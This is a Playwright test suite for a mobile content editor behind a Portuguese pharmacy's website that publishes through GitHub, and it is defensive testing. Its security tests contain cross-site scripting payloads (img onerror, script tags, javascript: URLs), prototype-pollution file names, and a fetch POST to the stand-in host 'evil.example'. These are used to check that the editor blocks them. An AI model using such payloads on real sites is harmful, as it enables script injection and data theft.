import { expect, type Page, test } from '@playwright/test';
import sharp from 'sharp';
import { dataIn } from '../../editor/core/content.ts';
import { FILE_NAMES, pathOf } from '../../editor/core/file-names.ts';
import { TOPICS } from '../../editor/core/topics.ts';
import { changedFile } from '../../editor/core/write.ts';
import { lisbonDay } from '../../src/opening/lisbon.ts';
import { phonePhotograph } from '../photograph.ts';
import { type FakeGitHub, filesOf, KEYS } from './github.ts';
import { startTelephoneSite } from './telephone-site.ts';

let site: Awaited<ReturnType<typeof startTelephoneSite>>;
let github: FakeGitHub;

test.use({ viewport: { width: 360, height: 740 }, hasTouch: true });

test.beforeAll(async () => {
  site = await startTelephoneSite();
  ({ github } = site);
});

test.afterAll(() => site.stop());

const complaints: string[] = [];

test.beforeEach(({ page }) => {
  github.fault = () => undefined;
  github.reset();
  complaints.length = 0;
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on(
    'console',
    (message) => message.type() === 'error' && complaints.push(`${message.text()} ${message.location().url}`),
  );
});

/** Opens the editor with a key that was pasted before. */
async function open(page: Page, until = '2099-01-01'): Promise<void> {
  const key = { key: KEYS.writes, until };
  await page.addInitScript((kept) => localStorage.setItem('editor:chave', kept), JSON.stringify(key));
  await page.goto(`${site.url}/editar`);
  await expect(page.getByRole('navigation').getByRole('link').first()).toBeVisible();
}

const choose = (page: Page, topic: string) => page.getByRole('navigation').getByRole('link', { name: topic }).click();
const field = (page: Page, id: string) => page.locator(`[data-field="${id}"]`);
/** Leads from a topic to what changes. */
const review = (page: Page) => page.getByRole('button', { name: 'Rever e publicar' });
/** Of which there is never a second. */
const publish = (page: Page) => page.getByRole('button', { name: 'Publicar', exact: true });
const status = (page: Page) => page.getByRole('main').getByRole('status').last();

test('an owner pastes the key once, and it is forgotten by one press', async ({ page }) => {
  await page.goto(`${site.url}/editar`);
  const key = page.getByLabel('A chave', { exact: true });
  const begin = page.getByRole('button', { name: 'Começar' });
  await key.fill(`ghp_${'x'.repeat(36)}`);
  await begin.click();
  await expect(page.getByText('Esta chave abre tudo o que é seu')).toBeVisible();
  await expect(page.getByText('Falta o último dia')).toBeVisible();
  await key.fill(KEYS.reads);
  await page.getByLabel('O último dia da chave').fill('2099-01-01');
  await begin.click();
  await expect(page.getByText('Esta chave não pode escrever')).toBeInViewport();
  await key.fill(KEYS.writes);
  await begin.click();
  await expect(page.getByRole('navigation').getByRole('link').first()).toHaveText('Avisos');
  expect(await page.locator('html').innerHTML()).not.toContain(KEYS.writes);
  await choose(page, 'Avisos');
  await review(page).click();
  await expect(page.getByText('abre o site até 1 de janeiro de 2099')).toBeVisible();
  page.on('dialog', (dialog) => dialog.accept());
  await page.getByRole('button', { name: 'Esquecer a chave' }).click();
  await expect(page.getByLabel('A chave', { exact: true })).toBeVisible();
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('github_pat_');
  complaints.splice(0, complaints.length, ...complaints.filter((text) => !/status of 403/.test(text)));
  expect(complaints).toEqual([]);
});

test('an owner changes Saturday’s hours, a price and a notice, and sees them published', async ({ page }) => {
  await open(page);
  await choose(page, 'Horas');
  await field(page, 'horario.yaml:aberturas.sabado[1].fecha').fill('18h30');
  await expect(page.getByText('Como em «Sexta»').first()).toBeVisible();
  // As visitors will read it: no page stands beside the form.
  await expect(page.getByText(/No site: .*sábado: 9h\sàs\s18h30/)).toBeVisible();
  await page.getByRole('button', { name: 'Escolher' }).click();
  await choose(page, 'Aluguer');
  await field(page, 'aluguer.yaml:[1].precoDia').fill('1,20');
  await expect(page.getByText('1,20\u00a0€')).toBeVisible();
  await page.getByRole('button', { name: 'Escolher' }).click();
  await choose(page, 'Avisos');
  await page.getByRole('button', { name: 'Novo aviso' }).click();
  await field(page, 'avisos.json:[1].texto').fill('Sábado fechamos mais cedo.');
  await field(page, 'avisos.json:[1].de').fill('2099-12-26');
  await expect(page.getByText('26 de dezembro de 2099').first()).toBeVisible();
  await review(page).click();
  for (const sentence of ['18:30', 'para 1,20', /Entra «Sábado fechamos mais cedo.»: .*a 26 de dezembro de 2099/])
    await expect(page.getByRole('main').getByText(sentence)).toBeVisible();
  await publish(page).click();
  await expect(status(page)).toContainText('A publicar… As mudanças estão no GitHub');
  await expect(page.getByText('Nada por publicar')).toBeHidden();
  expect(github.log()[0]).toBe('Muda «Horas», «Aluguer» e «Avisos», pelo telemóvel');
  expect(github.read('content/aluguer.yaml')).toContain('precoDia: 120');
  expect(github.read('content/horario.yaml')).toContain('fecha: "18:30"');
  // The host has built it.
  site.show(github.head);
  await expect(status(page)).toHaveText('Publicado: o site já mostra as mudanças.', { timeout: 20_000 });
  // Not of what is typed since.
  await page.getByRole('button', { name: 'Escolher' }).click();
  await choose(page, 'Aluguer');
  await field(page, 'aluguer.yaml:[1].precoDia').fill('1,30');
  await review(page).click();
  await expect(page.getByText('para 1,30')).toBeVisible();
  await expect(status(page)).toHaveText('');
  expect(complaints).toEqual([]);
});

test('what is typed stays when the telephone rings, without a line, and with a mistake', async ({ page, context }) => {
  await open(page);
  await choose(page, 'Aluguer');
  await field(page, 'aluguer.yaml:[1].precoDia').fill('0,04');
  await field(page, 'aluguer.yaml:[1].precoDia').blur();
  await expect(page.locator('[id="aluguer.yaml:[1].precoDia-mistake"]')).toContainText('um preço em euros');
  await review(page).click();
  await expect(page.getByText('falta corrigir')).toBeVisible();
  await page
    .getByRole('main')
    .getByRole('link', { name: /Preço por dia/ })
    .click();
  await field(page, 'aluguer.yaml:[1].precoDia').fill('1,40');
  const name = page.getByRole('textbox', { name: 'Nome do equipamento' }).first();
  await name.fill('');
  await name.blur();
  await expect(name).toHaveAccessibleDescription(/espera-se um texto/);
  await expect(page.getByRole('heading', { level: 3 }).first()).toHaveText('sem nome do equipamento');
  await name.fill('Medidor');
  page.on('dialog', (dialog) => dialog.accept());
  await page.reload();
  await choose(page, 'Aluguer');
  await expect(field(page, 'aluguer.yaml:[1].precoDia')).toHaveValue('1,40');
  await review(page).click();
  await context.setOffline(true);
  await publish(page).click();
  await expect(status(page)).toContainText('Sem ligação à internet');
  await context.setOffline(false);
  await publish(page).click();
  await expect(status(page)).toContainText('As mudanças estão no GitHub; ');
  expect(github.read('content/aluguer.yaml')).toContain('precoDia: 140');
});

test('a number is typed anew, without taking its letters away first', async ({ page }) => {
  await open(page);
  await choose(page, 'A farmácia');
  const telephone = page.getByRole('textbox', { name: 'Telefone da farmácia' });
  // It changes more often than the company or the tiles.
  await expect(telephone).toBeInViewport();
  await telephone.tap();
  await page.keyboard.type('249111222');
  await expect(telephone).toHaveValue('249111222');
});

test('what a colleague changed too is asked about, and nothing else', async ({ page }) => {
  await open(page);
  await choose(page, 'Aluguer');
  await field(page, 'aluguer.yaml:[1].precoDia').fill('1,50');
  const theirs = github.read('content/aluguer.yaml').replace('precoDia: 100', 'precoDia: 170');
  github.commit({ 'content/aluguer.yaml': theirs });
  await review(page).click();
  await publish(page).click();
  await expect(page.getByRole('heading', { name: 'Alguém mudou o mesmo entretanto' })).toBeVisible();
  await page.getByRole('button', { name: 'Ficar com o meu' }).click();
  await expect(status(page)).toContainText('As mudanças estão no GitHub; ');
  expect(github.read('content/aluguer.yaml')).toContain('precoDia: 150');
  // What was there before is in the repository.
  await page.getByRole('button', { name: 'Escolher' }).click();
  await choose(page, 'Aluguer');
  const versions = page.locator('summary').filter({ hasText: 'Versões anteriores' });
  await expect(versions).toBeInViewport();
  await versions.click();
  await expect(page.getByText('preço por dia: passa de 1,70\u00a0€ para 1,50\u00a0€')).toBeVisible();
  await page
    .getByRole('button', { name: /^Repor como estava antes/ })
    .first()
    .click();
  await expect(page.getByText('preço por dia: passa de').first()).toBeHidden();
  await expect(versions).toBeInViewport();
  await expect(field(page, 'aluguer.yaml:[1].precoDia')).toHaveValue('1,70');
  await expect(status(page)).toHaveText('Está no formulário: falta publicar. «Desfazer» volta ao que estava.');
});

test('a photograph is made small and upright, and loses its place, before it leaves', async ({ page }) => {
  await open(page);
  await choose(page, 'A farmácia');
  await page.getByLabel('Mostrar no site: Fotografias').click();
  await page.getByRole('switch', { name: /A farmácia por fora/ }).click();
  const chosen = page.getByLabel(/Escolher uma fotografia/).first();
  await expect(page.getByText('ou largar aqui').first()).toBeHidden();
  await chosen.setInputFiles({ name: 'IMG_0042.jpg', mimeType: 'image/jpeg', buffer: await phonePhotograph() });
  // Of a «Guardar» nothing is said: there is none.
  await expect(page.getByText('copiada como «img-0042.jpg». Diga a seguir o que se vê nela.')).toBeVisible();
  await page
    .getByLabel(/O que se vê/)
    .first()
    .fill('A montra na praça, com a cruz acesa');
  await review(page).click();
  await publish(page).click();
  await expect(status(page)).toContainText('As mudanças estão no GitHub; ');
  const sent = github.bytes('content/fotografias/img-0042.jpg');
  expect(sent.subarray(0, 2).toString('hex')).toBe('ffd8');
  expect(sent.toString('latin1')).not.toMatch(/Exif|GPS/);
  const { data, info } = await sharp(sent).raw().toBuffer({ resolveWithObject: true });
  expect(info.height).toBeGreaterThan(info.width);
  const [blue, green] = [data.subarray(0, 3), data.subarray(-3)].map(([, green = 0, blue = 0]) => blue - green);
  expect(blue).toBeGreaterThan(50);
  expect(green).toBeLessThan(0);
});

test('nobody can frame it, and it speaks to nobody else', async ({ page }) => {
  const answer = await page.request.get(`${site.url}/editar`);
  expect(answer.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
  await open(page);
  const refused = await page.evaluate(() =>
    Promise.all([
      fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'refused',
      ),
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.evil = 1' }));
      }).catch(() => 'refused'),
    ]),
  );
  expect(refused[0]).toBe('refused');
  expect(await page.evaluate(() => 'evil' in window)).toBe(false);
});

/** The same data with an attack behind each of its texts, numbers and names of choices among them. */
function hostileCopy(data: unknown): unknown {
  if (Array.isArray(data)) return data.map(hostileCopy);
  if (typeof data === 'object' && data !== null)
    return Object.fromEntries(Object.entries(data).map(([key, value]) => [key, hostileCopy(value)]));
  return `${data}"><img src=x onerror="evil=1"><script>evil=1</script>{evil}javascript:evil=1`;
}

test('what the repository holds is read as text in every field, never run', async ({ page }) => {
  const texts = filesOf('exemplos/demonstracao');
  const attacks = FILE_NAMES.map((name) => {
    const [path, text = ''] = [pathOf(name), texts[pathOf(name)]];
    return [path, changedFile(path, text, hostileCopy(dataIn(name, text)))];
  });
  const names = ['<img src=x onerror="evil=1">.jpg', '__proto__', 'constructor'];
  const files = names.map((name) => [`content/fotografias/${name}`, 'evil']);
  github.commit(Object.fromEntries([...attacks, ...files]));
  await open(page);
  for (const { title } of Object.values(TOPICS)) {
    await page.getByRole('button', { name: 'Escolher' }).click();
    await choose(page, title);
    await expect(page.getByRole('heading', { name: title, level: 2 })).toBeVisible();
  }
  await page.locator('main textarea').first().fill('<b>evil</b>');
  await review(page).click();
  await expect(page.getByText('falta corrigir')).toBeVisible();
  expect(await page.evaluate(() => 'evil' in window)).toBe(false);
  await expect(page.locator('img[src=x], #editor script')).toHaveCount(0);
  expect(complaints).toEqual([]);
});

test('a key that ends within a month is said wherever one works', async ({ page }) => {
  await open(page, lisbonDay(new Date(Date.now() + 20 * 86_400_000)));
  await expect(page.getByRole('banner')).toContainText(/A chave acaba a \d+ de \p{L}+ de \d{4}: faça outra/u);
});

test('everything fits at 320 pixels, also with letters of 200 %, and can be tapped', async ({ page }) => {
  await page.setViewportSize({ width: 320, height: 640 });
  /** As a browser's setting does; the policy refuses a style element. */
  const setLetters = (size: string) =>
    page.evaluate((chosen) => document.documentElement.style.setProperty('font-size', chosen), size);
  await page.goto(`${site.url}/editar`);
  await setLetters('200%');
  await page.getByRole('button', { name: 'Começar' }).click();
  expect(await sidewaysOf(page), 'the page that asks for the key').toBeLessThanOrEqual(0);
  await open(page);
  for (const letters of ['100%', '200%']) {
    await setLetters(letters);
    for (const topic of ['Avisos', 'Horas', 'Aluguer', 'A farmácia']) {
      await page.getByRole('button', { name: 'Escolher' }).click();
      expect(await sidewaysOf(page), `${letters}, the list`).toBeLessThanOrEqual(0);
      expect(await smallTargets(page), `${letters}, the list`).toEqual([]);
      await choose(page, topic);
      // A notice's days are picked; nothing covers the button.
      if (topic === 'Avisos') await page.getByRole('button', { name: 'Novo aviso' }).click({ timeout: 8_000 });
      expect(await sidewaysOf(page), `${letters}, ${topic}`).toBeLessThanOrEqual(0);
      expect(await smallTargets(page), `${letters}, ${topic}`).toEqual([]);
      await page.getByRole('main').getByRole('textbox').last().focus();
      await expect.poll(() => coveredShare(page), { message: `${letters}, ${topic}` }).toBeLessThan(1 / 3);
    }
    await review(page).click();
    expect(await sidewaysOf(page), `${letters}, publishing`).toBeLessThanOrEqual(0);
  }
});

/** By how much the page, or a part of it that scrolls, is wider than the screen. */
const sidewaysOf = (page: Page) =>
  page.evaluate(() => {
    const parts = [document.documentElement, ...document.querySelectorAll('main, nav')];
    return Math.max(...parts.map((part) => part.scrollWidth - part.clientWidth));
  });

/** How much of the screen's height the header and the bar with the buttons take. */
const coveredShare = (page: Page) =>
  page.evaluate(() => {
    const lines = Array.from({ length: innerHeight }, (_, y) => document.elementFromPoint(innerWidth / 2, y));
    return lines.filter((part) => part?.closest('header, form > :last-child')).length / innerHeight;
  });

/** What can be pressed and is lower than 44 pixels. */
const smallTargets = (page: Page) =>
  page.evaluate(() =>
    [
      ...document.querySelectorAll<HTMLElement>(
        'button, nav a, select, input:not([type=checkbox], [type=radio], [type=file], [type=range])',
      ),
    ]
      .filter((control) => control.checkVisibility() && !control.matches('.skip-link'))
      .filter((control) => control.getBoundingClientRect().height < 43.5)
      .map((control) => `${control.getBoundingClientRect().height} ${control.outerHTML.slice(0, 120)}`),
  );
